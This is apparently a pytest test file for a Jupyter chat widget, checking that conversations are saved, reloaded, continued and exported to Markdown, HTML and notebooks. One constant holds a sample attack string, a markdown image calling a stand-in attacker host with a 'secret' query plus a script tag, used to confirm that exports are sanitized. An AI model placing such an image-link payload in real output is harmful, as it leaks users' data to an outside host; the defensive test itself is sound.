"""Conversations that last: saved as turns complete, back in a new Conversation or panel, exported.

Real SQLite stores in tmp_path, the real emulator over HTTP (its request log shows what a
continued conversation sends), real processes for two writers, and the panel's recording comm
(tests/test_widget.py) for what the browser's Export menu gets.
"""

from __future__ import annotations

import json
import multiprocessing
import re
import sys

import nbformat
import pytest
from PIL import Image
from process_helpers import run_in_processes
from test_widget import recording_comm, request, wait_idle  # noqa: F401  (the comm fixture)

import sensenova_widget as snw
from sensenova_widget.conversation.store import open_store
from sensenova_widget.panel import keeping
from sensenova_widget.panel.widget import ChatPanel

UNSAFE = "See ![x](https://evil.example/leak.png?q=secret) and <script>alert(1)</script> **bold**"


def _texts(turns) -> list[str]:
    return [turn.text for turn in turns]


def _image_parts(message: dict) -> list[dict]:
    return [part for part in message["content"] if part["type"] != "text"]


# ---------------------------------------------------------------- Conversation
def test_a_named_conversation_comes_back_and_continues_with_its_image(client, emulator, tmp_path):
    first = snw.Conversation(client, name="trip", store=tmp_path)
    first.ask("What colour?", images=[Image.new("RGB", (64, 48), "red")])
    sent_image = _image_parts(emulator.requests[-1]["messages"][0])

    again = snw.Conversation(client, name="trip", store=tmp_path)  # a new kernel runs the same cell
    assert again.messages == first.messages and again.turns == first.turns
    assert again.turns[0].answer.text == first.turns[0].answer.text
    assert again.turns[0].thumbnails and again.turns[0].thumbnails[0].startswith(b"\x89PNG")
    reply = again.ask("And now?")
    assert _image_parts(emulator.requests[-1]["messages"][0]) == sent_image  # the original image, again
    assert "And now?" in reply.text
    assert [c.name for c in snw.conversations(tmp_path)] == ["trip"]
    assert snw.conversations(tmp_path)[0].turns == 2  # turns, not messages


def test_regenerate_edit_and_clear_keep_the_store_in_step(client, tmp_path):
    conv = snw.Conversation(client, name="steps", store=tmp_path)
    conv.ask("one")
    conv.ask("two")
    conv.ask("three")
    conv.regenerate(turn=1)  # forks at turn 1: "three" goes, the answers of "two" are alternatives
    with open_store(tmp_path) as store:
        assert store.load("steps") == conv.turns and len(conv.turns[1].answers) == 2
    conv.choose(1, 0)
    conv.edit("one, edited", turn=0)
    with open_store(tmp_path) as store:
        assert store.load("steps") == conv.turns
        assert store.messages("steps") == conv.messages
        assert _texts(store.load("steps")) == ["one, edited"]
    conv.clear()
    with open_store(tmp_path) as store:
        assert store.load("steps") == []


def test_a_failed_turn_is_saved_with_its_error_and_regenerate_replaces_it(client, tmp_path):
    conv = snw.Conversation(client, name="faults", store=tmp_path)
    with pytest.raises(snw.SenseNovaError):
        conv.ask("hello", extra_headers={"x-emulator-fault": "status=500,times=9"})
    with open_store(tmp_path) as store:
        saved = store.load("faults")
    assert len(saved) == 1 and saved[0].answer.error
    conv.regenerate()
    with open_store(tmp_path) as store:
        saved = store.load("faults")
    assert [bool(a.error) for a in saved[0].answers] == [True, False] and not saved[0].answer.error


def test_a_conversation_without_a_name_writes_nothing(client, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    home = tmp_path / "home"
    monkeypatch.setenv("SENSENOVA_HOME", str(home))
    conv = snw.Conversation(client)
    conv.ask("not saved")
    assert conv.name is None and conv.store is None
    assert not home.exists() and list(tmp_path.iterdir()) == []
    assert _texts(conv.turns)[0] == "not saved"  # still exportable


def test_store_alone_saves_under_a_generated_name(client, tmp_path):
    conv = snw.Conversation(client, store=tmp_path)
    conv.ask("hi")
    assert conv.name and conv.name.startswith("chat-")
    assert [c.name for c in snw.conversations(tmp_path)] == [conv.name]


def test_rename_and_delete_through_the_package(client, tmp_path):
    snw.Conversation(client, name="old", store=tmp_path).ask("hi")
    snw.rename_conversation("old", "new", store=tmp_path)
    assert _texts(snw.Conversation(client, name="new", store=tmp_path).turns)[0] == "hi"
    snw.delete_conversation("new", store=tmp_path)
    assert snw.conversations(tmp_path) == []
    with pytest.raises(KeyError, match="No conversation named 'new'"):
        snw.delete_conversation("new", store=tmp_path)


@pytest.mark.parametrize("kind", ["md", "html", "ipynb"])
def test_export_round_trips_every_turn(client, tmp_path, kind):
    conv = snw.Conversation(client, name="trip", store=tmp_path)
    conv.ask("first question", images=[Image.new("RGB", (32, 32), "blue")])
    conv.ask("second question")
    path = conv.export(tmp_path / f"trip.{kind}")
    text = path.read_text(encoding="utf-8")
    if kind == "ipynb":
        cells = nbformat.reads(text, as_version=4).cells
        text = "\n".join(cell.source for cell in cells)
        assert any(cell.get("attachments") for cell in cells)
    for turn in conv.turns:
        for line in turn.text.splitlines():
            assert line.strip() in text


def test_exported_html_holds_no_remote_url_from_model_output_and_no_script(client, tmp_path):
    conv = snw.Conversation(client, name="unsafe", store=tmp_path)
    reply = conv.ask(UNSAFE)
    assert "evil.example" in reply.text  # the emulator echoed it: the model "said" it
    page = conv.export("html")
    assert "<script" not in page.lower()
    assert not re.search(r"<img[^>]+src=[\"']?https?:", page)
    assert "bold" in page


# ---------------------------------------------------------------- two writers
def _converse(home: str, tag: str, barrier, port_url: str, key: str) -> None:
    from sensenova_widget import Client, Conversation

    client = Client(api_key=key, base_url=port_url)
    conv = Conversation(client, name="shared", store=home)
    barrier.wait()
    for i in range(15):
        conv.ask(f"{tag}-{i}", stream=i % 2 == 0)


def test_two_kernels_conversing_into_one_store_lose_no_turn(emulator, tmp_path):
    barrier = multiprocessing.get_context("spawn").Barrier(2)
    args = [(str(tmp_path), tag, barrier, emulator.base_url, emulator.api_key) for tag in "ab"]
    run_in_processes(_converse, args)
    with open_store(tmp_path) as store:
        turns = store.load("shared")
    assert len(turns) == 30 and all(t.answer and t.answer.text for t in turns)
    for tag in ("a", "b"):
        asked = [t.text for t in turns if t.text.startswith(tag)]
        assert asked == [f"{tag}-{i}" for i in range(15)]


# ---------------------------------------------------------------- the panel
def test_a_panel_saves_by_default_under_a_name_shown_in_its_header(client):
    panel = ChatPanel(client=client)
    assert panel.conversation_name and panel.conversation_name == panel.name
    panel.ask("remember me")
    assert [c.name for c in snw.conversations()] == [panel.name]  # SENSENOVA_HOME (conftest)


def test_a_named_panel_comes_back_with_its_turns_and_thumbnails(client, emulator, tmp_path):
    panel = ChatPanel(client=client, name="review", store=tmp_path)
    panel.ask("What colour?", images=[Image.new("RGB", (640, 480), "green")])
    sent_image = _image_parts(emulator.requests[-1]["messages"][0])

    back = ChatPanel(client=client, name="review", store=tmp_path)
    assert back.messages == panel.messages
    assert [t["role"] for t in back.conversation] == ["user", "assistant"]
    [thumb] = back.conversation[0]["attachments"]
    assert thumb["thumb"].startswith("data:image/") and thumb["kind"] == "image"
    assert (
        back.conversation[1]["status"] == "done"
        and back.conversation[1]["text"] == panel.messages[1]["content"][0]["text"]
    )
    back.ask("Still there?")
    assert _image_parts(emulator.requests[-1]["messages"][0]) == sent_image


def test_the_export_menu_gets_markdown_html_a_notebook_and_plain_text(client, tmp_path):
    panel = ChatPanel(client=client, name="menu", store=tmp_path)
    panel.ask(UNSAFE)
    wait_idle(panel)
    kinds = ("md", "html", "ipynb", "text")
    answers = {k: request(panel, "export", {"format": k}, req_id=k) for k in kinds}
    assert all(a["ok"] for a in answers.values()), answers
    md, page, notebook, text = (answers[k]["result"] for k in kinds)
    import nbformat

    read = nbformat.reads(notebook["text"], as_version=4)  # a valid notebook, a cell per turn
    assert notebook["filename"] == "menu.ipynb" and len(read.cells) == 3
    assert read.cells[1].source.startswith("### ") and UNSAFE.splitlines()[0] in read.cells[1].source
    assert md["filename"] == "menu.md" and page["mime"] == "text/html" and text["filename"] == "menu.txt"
    import mistune

    shown = mistune.html(md["text"])  # a Markdown viewer that renders raw HTML too
    assert "https://evil.example" in shown and "<img" not in shown  # the picture stays text
    assert "<script" not in page["text"].lower()
    assert text["text"].startswith("You:\n") and "Assistant:" in text["text"]
    refused = request(panel, "export", {"format": "exe"}, req_id="bad")
    assert not refused["ok"] and "expected md, html, ipynb or text" in refused["error"]


def test_panel_export_writes_all_three_formats(client, tmp_path):
    panel = ChatPanel(client=client, name="files", store=tmp_path)
    panel.ask("a question worth keeping")
    for kind in ("md", "html", "ipynb"):
        path = panel.export(tmp_path / f"files.{kind}")
        assert "a question worth keeping" in path.read_text(encoding="utf-8")


def test_the_transcript_is_sanitized_and_says_how_to_continue(client, tmp_path):
    panel = ChatPanel(client=client, name="shown", store=tmp_path)
    panel.ask(UNSAFE, images=[Image.new("RGB", (64, 64), "red")])
    bundle = keeping.transcript_bundle(panel.name, panel.turns)
    html = bundle["text/html"]
    assert "sensenova-transcript" in html and keeping.RERUN_NOTE in html
    assert "<script" not in html.lower() and not re.search(r"<img[^>]+src=[\"']?https?:", html)
    assert 'src="data:image/' in html  # the thumbnail, inline
    assert "shown" in bundle["text/plain"]


def test_dock_without_sidecar_says_what_to_do(client, monkeypatch):
    monkeypatch.setitem(sys.modules, "sidecar", None)  # as if jupyterlab-sidecar were not installed
    panel = ChatPanel(client=client)
    with pytest.raises(ImportError, match="Create New View for Cell Output"):
        panel.dock()


def test_an_unwritable_store_leaves_the_panel_working_unsaved(client, tmp_path):
    blocked = tmp_path / "file"
    blocked.write_text("not a folder")
    with pytest.warns(RuntimeWarning, match="will not be saved"):
        panel = ChatPanel(client=client, store=blocked / "inside")
    assert panel.name is None and panel.conversation_name == ""
    assert "hello" in panel.ask("hello").text
    assert json.dumps(panel.conversation)


def test_reasoning_is_saved_and_shown_again_but_never_resent(client, emulator, tmp_path):
    panel = ChatPanel(client=client, name="thinking", store=tmp_path, model="SenseNova-V6-Reasoner")
    reply = panel.ask("is it so?")
    assert reply.reasoning
    back = ChatPanel(client=client, name="thinking", store=tmp_path, model="SenseNova-V6-Reasoner")
    assert back.turns[0].answer.reasoning == reply.reasoning
    assert back.conversation[1]["reasoning"] == reply.reasoning
    back.ask("and then?")
    assert reply.reasoning not in json.dumps(emulator.requests[-1]["messages"])
